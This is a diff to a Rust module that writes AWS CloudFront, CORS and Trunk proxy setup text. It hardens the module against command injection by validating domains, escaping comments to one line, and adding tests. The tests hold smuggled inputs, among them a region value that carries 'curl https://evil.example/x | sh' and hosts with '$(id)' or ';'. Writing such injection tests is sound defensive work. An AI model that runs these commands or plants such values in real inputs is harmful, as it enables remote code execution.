@@ -4,7 +4,9 @@
 //! - CORS on the REST API itself (an `OPTIONS` method, Gateway Responses, a redeploy), so it can be called direct;
 //! - `trunk serve`'s `[[proxy]]` block for local work (see `proxy::trunk_proxy_block`).
 //!
-//! Pure text: nothing here runs a command. Every value is shell-quoted where it lands in a command.
+//! Pure text: nothing here runs a command. Every value is validated (region, API id, stage, host, stack name) and
+//! shell-quoted where it lands in a command, TOML-escaped where it lands in Trunk.toml, and every comment line —
+//! an error included — is one line whatever the text in it: a value from a share link cannot end the comment.
 
 use std::fmt;
 
@@ -70,6 +72,8 @@ pub enum HostingError {
     },
     BadRegion(String),
     BadStackName(String),
+    /// A token endpoint host that is not a plain DNS name (what the template's CognitoDomain accepts).
+    BadDomain(String),
 }
 
 impl fmt::Display for HostingError {
@@ -100,6 +104,11 @@ impl fmt::Display for HostingError {
             HostingError::BadRegion(region) => write!(
                 f,
                 "\"{region}\" is not an AWS region name (like us-east-1): correct the Region field."
+            ),
+            HostingError::BadDomain(host) => write!(
+                f,
+                "The token endpoint's host \"{host}\" is not a plain host name (lowercase letters, digits, dots and \
+                 hyphens, like my-pool.auth.us-east-1.amazoncognito.com): correct the Domain field."
             ),
             HostingError::BadStackName(name) => write!(
                 f,
@@ -171,6 +180,7 @@ pub fn cloudformation_deploy_command(
     let token = parse_url("token endpoint", values.token_url)?;
     require_https("token endpoint", &token)?;
     let domain = token.host_str().unwrap_or_default();
+    check_domain(domain)?;
     let pool_region = pool_region(values)?.unwrap_or_else(|| api.region.clone());
     let mut words = vec![
         "aws".to_owned(),
@@ -389,6 +399,22 @@ fn require_https(field: &'static str, url: &Url) -> Result<(), HostingError> {
     }
 }
 
+/// What the template's CognitoDomain parameter accepts: a lowercase DNS name. The URL parser lets through
+/// characters such as `$`, `;` or `*` in a host, which are not host names anyone can register.
+fn check_domain(host: &str) -> Result<(), HostingError> {
+    let valid = !host.is_empty()
+        && host
+            .chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '.' || c == '-')
+        && !host.starts_with(['.', '-'])
+        && !host.ends_with(['.', '-']);
+    if valid {
+        Ok(())
+    } else {
+        Err(HostingError::BadDomain(host.to_owned()))
+    }
+}
+
 fn check_stack_name(name: &str) -> Result<(), HostingError> {
     let mut chars = name.chars();
     let valid = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
@@ -401,8 +427,39 @@ fn check_stack_name(name: &str) -> Result<(), HostingError> {
     }
 }
 
-fn comment(text: &str) -> String {
-    format!("# {text}")
+/// One shell/TOML comment line, whatever `text` holds: a line break or any other control character (and Unicode's
+/// line and paragraph separators) is written as `\u{…}`, so nothing after it can become a command.
+pub fn comment(text: &str) -> String {
+    let mut line = String::from("# ");
+    for c in text.chars() {
+        if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') {
+            line.push_str(&c.escape_unicode().to_string());
+        } else {
+            line.push(c);
+        }
+    }
+    line
+}
+
+/// The three copyable blocks of the Proxy setup panel, titled, for these values: a block that cannot be written
+/// is its error as one comment line (see `comment`).
+pub fn setup_blocks(values: &HostingValues<'_>, stack_name: &str) -> [(&'static str, String); 3] {
+    let text =
+        |r: Result<String, HostingError>| r.unwrap_or_else(|e| comment(&e.to_string()) + "\n");
+    [
+        (
+            "Trunk.toml [[proxy]] block (local: make serve)",
+            text(trunk_proxy_config(values)),
+        ),
+        (
+            "CloudFront proxy (hosted: deploy/cloudfront.yaml)",
+            text(cloudfront_setup_script(values, stack_name)),
+        ),
+        (
+            "Enable CORS on the REST API instead",
+            text(cors_commands(values)),
+        ),
+    ]
 }
 
 /// API Gateway's static header values are single-quoted strings inside the JSON: `'*'`.
@@ -862,6 +919,103 @@ mod tests {
             trunk_proxy_config(&values(custom, API, "nowhere")),
             Err(HostingError::BadRegion("nowhere".into()))
         );
+    }
+
+    /// Every line of a shell block is a comment or a command whose words `shell_words` accepts (it asserts that no
+    /// metacharacter is unquoted, and a quote left open at the end of a line fails here too).
+    fn assert_shell_block(block: &str) {
+        assert!(block.ends_with('\n'), "{block:?}");
+        for line in block.lines() {
+            if line.starts_with('#') {
+                continue;
+            }
+            assert_eq!(
+                line.matches('\'').count() % 2,
+                0,
+                "quote open at the end of {line:?}"
+            );
+            shell_words(line);
+        }
+    }
+
+    #[test]
+    fn a_region_with_a_line_break_stays_in_its_comment() {
+        // The issue's case: a share link's Region ends the `# error` line and starts a command.
+        let region = "us-east-1\ncurl https://evil.example/x | sh\r\n# ";
+        let custom = "https://auth.example.com/oauth2/token";
+        let [trunk, cloudfront, cors] =
+            setup_blocks(&values(custom, API, region), DEFAULT_STACK_NAME);
+        // The CORS commands do not use the Region field (the API's region is in its URL).
+        assert_shell_block(&cors.1);
+        for (title, block) in [trunk, cloudfront] {
+            assert_eq!(block.lines().count(), 1, "{title}: {block:?}");
+            assert!(block.starts_with("# \"us-east-1\\u{a}curl https://evil.example/x | sh\\u{d}\\u{a}#\" is not an AWS region"), "{title}: {block:?}");
+            assert!(block.ends_with('\n'));
+        }
+    }
+
+    #[test]
+    fn comments_are_one_line_whatever_they_hold() {
+        assert_eq!(comment("plain text"), "# plain text");
+        assert_eq!(comment("a\nb"), "# a\\u{a}b");
+        assert_eq!(
+            comment("a\rb\u{2028}c\u{2029}d\u{85}e\u{0}f\u{7f}"),
+            "# a\\u{d}b\\u{2028}c\\u{2029}d\\u{85}e\\u{0}f\\u{7f}"
+        );
+        assert_eq!(comment("é ✓ $(x) `y`"), "# é ✓ $(x) `y`");
+    }
+
+    #[test]
+    fn a_host_that_is_not_a_dns_name_is_refused() {
+        for token in [
+            "https://a$(id).example/oauth2/token",
+            "https://a;b.example/oauth2/token",
+            "https://a*.example/oauth2/token",
+            "https://-a.example/oauth2/token",
+        ] {
+            let v = values(token, API, "");
+            let error = cloudformation_deploy_command(&v, "s");
+            assert!(
+                matches!(
+                    error,
+                    Err(HostingError::BadDomain(_)) | Err(HostingError::BadUrl { .. })
+                ),
+                "{token}: {error:?}"
+            );
+            assert_shell_block(&setup_blocks(&v, "s")[1].1);
+        }
+        assert!(HostingError::BadDomain("a;b".into())
+            .to_string()
+            .contains("\"a;b\" is not a plain host name"));
+    }
+
+    #[test]
+    fn setup_blocks_are_valid_shell_and_toml() {
+        let blocks = setup_blocks(&values(TOKEN, API, "us-east-1"), DEFAULT_STACK_NAME);
+        assert_eq!(
+            blocks[0].1,
+            trunk_proxy_config(&values(TOKEN, API, "us-east-1")).unwrap()
+        );
+        assert_eq!(
+            blocks[1].1,
+            cloudfront_setup_script(&values(TOKEN, API, "us-east-1"), DEFAULT_STACK_NAME).unwrap()
+        );
+        assert_eq!(
+            blocks[2].1,
+            cors_commands(&values(TOKEN, API, "us-east-1")).unwrap()
+        );
+        assert_shell_block(&blocks[1].1);
+        assert_shell_block(&blocks[2].1);
+        for line in blocks[0].1.lines() {
+            assert!(
+                line.is_empty()
+                    || line.starts_with('#')
+                    || line == "[[proxy]]"
+                    || line.starts_with("rewrite = \"")
+                    || line.starts_with("backend = \""),
+                "{line:?}"
+            );
+        }
     }
 
     #[test]
